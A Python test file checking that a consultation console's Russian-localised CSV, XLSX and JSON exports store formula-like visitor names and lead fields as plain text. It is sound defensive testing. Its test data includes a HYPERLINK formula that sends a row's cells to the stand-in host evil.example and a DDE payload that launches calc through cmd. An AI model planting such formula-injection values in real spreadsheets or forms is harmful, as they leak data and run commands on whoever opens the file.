"""The console's exports open in a Russian spreadsheet as data, never as formulas.

A visitor chooses their own name and words, and the owner opens the exports in Excel or
LibreOffice, which run a cell beginning with `=`, `+`, `-` or `@` (or a tab or a carriage return)
as a formula: `=HYPERLINK("http://evil.example/?d="&A2,"x")` sends the row's other cells away on
a click. Each export is checked over real HTTP, signed in to the console as the owner:
- the CSV is split on `;` after a byte-order mark, with Russian headers and dates
  «ДД.ММ.ГГГГ ЧЧ:ММ»; every cell that could start a formula comes out with a leading `'`
  (OWASP's rule), so the spreadsheet shows it as text;
- the .xlsx, read back with openpyxl, has the same headers, date-time cells in the business's
  time zone, «да»/«нет», Russian lead statuses, and every text cell a string: the sheet holds no
  formula at all, the hostile names exactly as the visitors wrote them.
Both are the owner's own downloads, so phones are whole.
"""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import datetime, timedelta
from pathlib import Path

import httpx
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from talkme_consultant.talkme.visitor import Visitor
from tests.answer.llm_helpers import reply_payload
from tests.support.console_client import signed_in_client
from tests.support.eventually import eventually
from tests.support.openai_server import RecordedRequest, Reply, scripted_openai_server
from tests.support.service import (
    RunningService,
    model_settings,
    running_service,
    service_settings,
)

FORMULA = '=HYPERLINK("http://evil.example/?d="&A2,"x")'
# One visitor name per character a spreadsheet starts a formula with.
HOSTILE_NAMES = [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1"]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
CONVERSATION_HEADERS = [
    "Диалог",
    "Создан",
    "Последнее сообщение",
    "Имя",
    "Телефон",
    "Кто ведёт",
    "Сообщений",
    "Передан человеку",
    "Лид",
    "Уточнение",
    "Проверка фактов",
]
LEAD_HEADERS = ["Создан", "Имя", "Телефон", "Интерес", "Кратко", "Статус", "Диалог"]
YES_NO_COLUMNS = ["Передан человеку", "Лид", "Уточнение", "Проверка фактов"]
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def rows_of(export: httpx.Response) -> list[dict[str, str]]:
    """The CSV's rows as a Russian spreadsheet splits them: on `;`, after the byte-order mark."""
    assert export.status_code == 200
    assert export.headers["content-type"].startswith("text/csv")
    assert export.text.startswith("\ufeff"), "Excel reads Cyrillic only after a BOM"
    return list(csv.DictReader(io.StringIO(export.text.lstrip("\ufeff")), delimiter=";"))


def sheet_of(export: httpx.Response) -> Worksheet:
    """The .xlsx's only sheet, read back with openpyxl; the sheet holds no formula."""
    assert export.status_code == 200
    assert export.headers["content-type"] == XLSX
    with zipfile.ZipFile(io.BytesIO(export.content)) as package:
        sheet_xml = package.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml, "no cell is a formula"
    book = load_workbook(io.BytesIO(export.content))
    [sheet] = book.worksheets
    return sheet


def header_of(sheet: Worksheet) -> list[object]:
    return [cell.value for cell in next(sheet.iter_rows(max_row=1))]


def records_of(sheet: Worksheet) -> list[dict[str, object]]:
    """Each row below the header as {header: value}."""
    header = [str(value) for value in header_of(sheet)]
    return [
        dict(zip(header, (cell.value for cell in row), strict=True))
        for row in sheet.iter_rows(min_row=2)
    ]


def live_formulas(rows: list[dict[str, str]]) -> list[str]:
    """Every cell a spreadsheet would run as a formula."""
    return [cell for row in rows for cell in row.values() if cell.startswith(FORMULA_STARTS)]


def local_now(service: RunningService) -> datetime:
    """The business's wall-clock time now (the sample profile's is Moscow, not the host's)."""
    return datetime.now(service.runtime.profile.zone()).replace(tzinfo=None)


def just_now(value: object, now: datetime) -> bool:
    return isinstance(value, datetime) and abs(value - now) < timedelta(minutes=10)


async def test_visitors_named_as_formulas_are_exported_with_their_names_as_text(
    tmp_path: Path,
) -> None:
    async with running_service(
        service_settings(tmp_path / "data", None, embedder="none")
    ) as service:
        for name in HOSTILE_NAMES:
            visitor = Visitor.new(name=name, phone="+7 916 123-45-67")
            await service.post_message(visitor, "Сколько стоит маникюр с покрытием?", 1)

        async def all_answered() -> bool:
            stats = await service.admin_get("/webhook/talkme/stats")
            return int(stats["messages_processed"]) >= len(HOSTILE_NAMES)

        await eventually(all_answered, what="every visitor's answer")
        async with signed_in_client(service) as client:
            export = await client.get("/console/conversations/export.csv")
            rows = rows_of(export)
            sheet = sheet_of(await client.get("/console/conversations/export.xlsx"))
            as_json = (await client.get("/console/conversations/export.json")).json()
        now = local_now(service)

    assert list(rows[0]) == CONVERSATION_HEADERS
    assert live_formulas(rows) == []
    # Every cell is quoted: a separator inside a value never starts a cell of its own.
    assert all(line.startswith('"') for line in export.text.lstrip("\ufeff").splitlines())
    assert sorted(row["Имя"] for row in rows) == sorted("'" + n for n in HOSTILE_NAMES)
    # The owner's download: the phone whole. It begins with «+», so it gets the quote too.
    assert {row["Телефон"] for row in rows} == {"'+7 916 123-45-67"}
    assert {row[column] for row in rows for column in YES_NO_COLUMNS} <= {"да", "нет"}
    assert {row["Кто ведёт"] for row in rows} <= {"бот", "человек"}, "words, not codes"
    created = datetime.strptime(rows[0]["Создан"], "%d.%m.%Y %H:%M")
    assert abs(created - now) < timedelta(minutes=10), "«ДД.ММ.ГГГГ ЧЧ:ММ», the business's time"

    assert header_of(sheet) == CONVERSATION_HEADERS
    records = records_of(sheet)
    # The names exactly as the visitors gave them, stored as text, not run.
    assert sorted(str(r["Имя"]) for r in records) == sorted(HOSTILE_NAMES)
    assert {cell.data_type for cell in sheet["D"][1:]} == {"s"}
    assert {r["Телефон"] for r in records} == {"+7 916 123-45-67"}
    assert all(
        just_now(r["Создан"], now) and just_now(r["Последнее сообщение"], now) for r in records
    )
    assert sheet["B2"].number_format == "DD.MM.YYYY HH:MM"
    assert {r[column] for r in records for column in YES_NO_COLUMNS} <= {"да", "нет"}
    assert {r["Сообщений"] for r in records} == {1}, "a count stays a number"

    # JSON is not opened by spreadsheets: the names stay exactly as the visitors gave them.
    assert sorted(c["client_name"] for c in as_json["conversations"]) == sorted(HOSTILE_NAMES)
    assert {c["phone"] for c in as_json["conversations"]} == {"+7 916 123-45-67"}


def hostile_booking_model(request: RecordedRequest) -> Reply:
    """A model that books the visitor and repeats their words as the lead's name and interest."""
    if request.schema_name == "search_queries":
        return Reply.json({"queries": ["маникюр запись"]})
    if request.schema_name == "consultant_reply":
        payload = reply_payload(
            "Спасибо! Передаю ваш номер администратору — он перезвонит.",
            wants_booking=True,
            visitor_name="@SUM(1+1)",
            interest=FORMULA,
        )
        return Reply.json(payload)
    return Reply.text("-Посетитель хотел записаться.")


async def test_a_lead_whose_words_are_formulas_is_exported_as_text(tmp_path: Path) -> None:
    async with scripted_openai_server(strict=False) as llm:
        llm.handler = hostile_booking_model
        settings = service_settings(
            tmp_path / "data", None, embedder="none", **model_settings(llm.base_url)
        )
        async with running_service(settings) as service:
            visitor = Visitor.new(name="Анна")
            await service.post_message(
                visitor, f"{FORMULA} — перезвоните мне, телефон 8 916 123-45-67", 1
            )

            async def lead() -> bool:
                return bool((await service.admin_get("/admin/leads"))["leads"])

            await eventually(lead, what="the lead")
            async with signed_in_client(service) as client:
                [row] = rows_of(await client.get("/console/leads/export.csv"))
                sheet = sheet_of(await client.get("/console/leads/export.xlsx"))
                [conversation] = records_of(
                    sheet_of(await client.get("/console/conversations/export.xlsx"))
                )
                unknown = await client.get("/console/leads/export.pdf")
            now = local_now(service)

    assert list(row) == LEAD_HEADERS
    assert live_formulas([row]) == []
    # A wish to be called back goes through the booking dialogue, which keeps the wished
    # service in its own words: whatever it kept, and the name, are text.
    assert row["Интерес"] and not row["Интерес"].startswith(FORMULA_STARTS)
    assert not row["Имя"].startswith(FORMULA_STARTS)
    assert row["Телефон"] == "'+7 916 123-45-67"
    assert row["Статус"] == "новый", "the status as the leads page names it"
    assert row["Диалог"] == visitor.client_id

    assert header_of(sheet) == LEAD_HEADERS
    [lead_row] = records_of(sheet)
    assert sheet["D2"].data_type == "s", "a hostile interest stays text"
    assert lead_row["Телефон"] == "+7 916 123-45-67"
    assert lead_row["Статус"] == "новый"
    assert just_now(lead_row["Создан"], now)
    assert (conversation["Лид"], conversation["Передан человеку"]) == ("да", "да")
    assert unknown.status_code == 404
